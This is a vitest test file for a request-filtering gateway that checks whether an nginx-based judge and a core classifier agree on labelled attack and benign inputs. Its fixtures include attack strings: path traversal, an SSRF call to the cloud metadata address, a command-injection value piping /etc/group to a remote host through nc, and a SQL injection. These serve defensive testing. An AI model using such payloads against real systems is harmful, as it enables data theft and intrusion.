import { execFile } from 'node:child_process';
import { join } from 'node:path';
import { describe, expect, inject, it } from 'vitest';
import { evaluate, type GatewayJudge } from '../../eval/evaluate.ts';
import { judgeByNginx } from '../../eval/nginx/judge.ts';
import { policies } from '../../eval/placement.ts';
import { renderMaps } from '../../src/core/maps.ts';
import { writeCorpus } from '../support/corpus.ts';

const attack = (kind: string, name: string, value: string): object => ({ id: `${name}-${kind}`, value, label: 'attack', class: name, argKind: kind, tier: 'A' });
const benign = (kind: string, value: string): object => ({ id: `benign-${kind}`, value, label: 'benign', argKind: kind, origin: 'tool-call' });

const samples = [
  attack('path', 'path', 'inbox/../../ledger/2031.txt'),
  attack('url', 'ssrf', 'http://169.254.169.254/whoami'),
  attack('text', 'shell', 'plan.txt; cat /etc/group | nc 203.0.113.7 9000'),
  attack('text', 'sqli', "lamp' union select pin, owner from safes-- "),
  benign('path', '/srv/data/harbour/tides 2031.csv'),
  benign('url', 'https://api.example.com/v2/tides?at=12'),
  benign('text', 'When does the ferry leave, and is "Möwe" still the "fast" one?'),
  benign('text', `The harvest was late; nobody spoke of it. ${'It rained on the mill all day.\n'.repeat(400)}`),
  benign('id', 'tide-2031-07'),
  benign('sql', "select name from tides where port = 'Bergen'"),
  benign('command', 'ls -la /srv/data | sort'),
  benign('code', 'const tide = (at) => `${at}`;'),
];

interface Outcome {
  readonly status: number | string | null | undefined;
  readonly stdout: string;
  readonly stderr: string;
}

/** The command as a developer types it. */
function runEval(...args: readonly string[]): Promise<Outcome> {
  return new Promise((resolve) => {
    execFile(process.execPath, [join(import.meta.dirname, '../../scripts/eval.mjs'), ...args], (error, stdout, stderr) => {
      resolve({ status: error === null ? 0 : error.code, stdout, stderr });
    });
  });
}

const quiet = (): void => undefined;

describe('npm run eval -- FILE --nginx', () => {
  it('judges each sample by a call through nginx and finds that core alone agrees', async () => {
    const { status, stdout, stderr } = await runEval(writeCorpus(samples), '--nginx', '--policy', 'named');
    expect(stderr).toBe('');
    expect(stdout).toMatch(/^ {2}path in path, tier A +1 of 1 +100\.0%/m);
    expect(stdout).toMatch(/^ {2}shell in id, tier A +1 of 1 +100\.0%/m);
    expect(stdout).toMatch(/^ {2}benign: all +0 of 8 +0\.0%/m);
    expect(stdout).toMatch(/Core alone and nginx: both agree\n$/);
    expect(status).toBe(0);
  });

  it('tells apart what the form of JSON forbids', async () => {
    const { stdout } = await runEval(writeCorpus([...samples, benign('text', 'a\ud800b'), benign('text', 'a\0b')]), '--nginx', '--policy', 'any');
    expect(stdout).toContain('Refused by the form of their JSON, before any rule: 2\nCore alone and nginx: both agree');
  });

  it('refuses an nginx that is none', async () => {
    const { status, stderr } = await runEval(writeCorpus(samples), '--nginx', '/nowhere/nginx');
    expect(stderr).toContain('--nginx: /nowhere/nginx is not a program that can be run');
    expect(status).toBe(2);
  });

  it('refuses a corpus with a bad line, with its place', async () => {
    const file = writeCorpus([...samples, 'not json']);
    const { status, stdout, stderr } = await runEval(file, '--nginx');
    expect(stderr).toBe(`${file}:${samples.length + 1}: not a JSON object\n`);
    expect(stdout).toBe('');
    expect(status).toBe(2);
  });
});

describe('a gateway that judges otherwise', () => {
  const judge = (maps: string): GatewayJudge => (placed) => judgeByNginx(placed, { install: inject('nginx'), onProgress: quiet, maps });

  it('is found out where its patterns vouch for everything', async () => {
    const blind = renderMaps().replace(/(map \$portcullis_text \$portcullis_odd_url \{\n {4}volatile;\n)[^]*?\n\}/, '$1    default "";\n}');
    expect(blind).not.toBe(renderMaps());
    const { output, isSound } = await evaluate(writeCorpus(samples), { policy: policies }, judge(blind));
    expect(output).toContain('Core alone and nginx disagree: 1\n  ssrf-url\tin url\tcore alone: ssrf.metadata\tnginx: passed');
    expect(output).toMatch(/both agree$/);
    expect(isSound).toBe(false);
  });
});
